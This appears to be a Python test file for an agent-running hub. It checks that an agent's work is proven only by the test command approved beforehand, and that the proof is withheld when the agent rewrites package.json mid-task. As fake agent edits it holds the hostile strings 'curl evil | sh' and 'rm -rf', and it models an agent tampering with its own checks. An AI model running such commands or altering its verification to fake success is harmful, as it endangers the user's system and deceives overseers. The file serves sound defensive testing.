"""An agent's work is proven by the tests that the person saw with the card, run afterwards: those, or none."""

import asyncio
from collections.abc import Callable

from msgspec.structs import replace

from hub.domain.execution import Job, RunResult
from hub.domain.plan import AnyPlan, DefiningFile, Plan
from hub.domain.policy import BUILT_IN, Agent, Bounds
from hub.domain.suggestion import CHECK_COMMAND, RUN_TESTS, Need, Work
from hub.loop.commands import Resolve
from hub.loop.events import Event, Resolved, RunEnded
from hub.runner.runs import AgentRuns
from tests.fakes.agent import Script, ScriptedRunner

AGENT = Agent(name="claude", kind="command", argv=("claude", "-p"))
WORK = Work(workspace="/home/me/shop")
PASSED = RunResult(ended="exited", exit_code=0, output="3 passed in 1.0s")


class ProjectTests(ScriptedRunner):
    """Plans a test run that is defined by what package.json says."""

    says = "jest"
    work = Work(playbook=RUN_TESTS)

    async def plan(self, agent: Agent, work: Work) -> AnyPlan:
        assert (agent, work) == (BUILT_IN, replace(self.work, workspace="/home/me/shop"))
        return Plan(argv=("npm", "test"), defined_by=(DefiningFile(path="package.json", sha256=self.says),))


class Editor(ScriptedRunner):
    """An agent that changes what the tests are while it works."""

    def __init__(self, tester: ProjectTests, writes: str) -> None:
        super().__init__()
        self.tester, self.writes = tester, writes

    async def run(self, job: Job, progress: Callable[[str], None]) -> RunResult:
        self.tester.says = self.writes
        return await super().run(job, progress)


async def ended(writes: str = "jest", command: tuple[str, ...] = ()) -> tuple[RunResult, ProjectTests]:
    """Let an agent do its work, after a look at what would run; return how that ended."""
    tester = ProjectTests(default=Script(result=PASSED))
    if command:
        tester.work = Work(playbook=CHECK_COMMAND, args=command)
    runs = AgentRuns({"command": Editor(tester, writes), "playbook": tester})
    heard: asyncio.Queue[Event] = asyncio.Queue()
    await runs.resolve(
        Resolve(cycle_id="c", agent=AGENT, work=WORK, tester=BUILT_IN, command=command), heard.put_nowait
    )
    looked = await heard.get()
    assert isinstance(looked, Resolved)
    assert isinstance(looked.plan, Plan)
    assert looked.plan.then is not None
    job = Job(
        execution_id="exec_1",
        session_id="run_1",
        agent=AGENT,
        prompt="Fix it",
        channel="code",
        bounds=Bounds(),
        playbook=None,
        workspace=WORK.workspace,
        args=(),
        need=Need(text="it is done", command=command) if command else Need(text="the tests pass", tests="after"),
        plan=looked.plan,
        tester=BUILT_IN,
    )
    runs.start("pred_1", job, heard.put_nowait)
    while not isinstance(event := await heard.get(), RunEnded):
        pass
    await runs.close()
    return event.result, tester


async def test_the_tests_follow_the_work() -> None:
    result, tester = await ended()
    assert result.proof is not None
    assert (result.proof.ended, result.proof.exit_code, result.proof.output) == ("exited", 0, "3 passed in 1.0s")
    assert [job.playbook for job in tester.jobs] == [RUN_TESTS]


async def test_what_the_agent_made_of_the_tests_command_is_not_run() -> None:
    result, tester = await ended(writes="curl evil | sh")
    assert result.proof is not None
    assert result.proof.ended == "changed"
    assert "package.json" in result.proof.detail
    assert tester.jobs == []


async def test_a_command_of_the_need_follows_the_work_in_the_same_way() -> None:
    result, tester = await ended(command=("make", "check"))
    assert result.proof is not None
    assert result.proof.exit_code == 0
    assert [(job.playbook, job.args) for job in tester.jobs] == [(CHECK_COMMAND, ("make", "check"))]
    changed, tester = await ended("rm -rf", command=("make", "check"))
    assert changed.proof is not None
    assert (changed.proof.ended, tester.jobs) == ("changed", [])
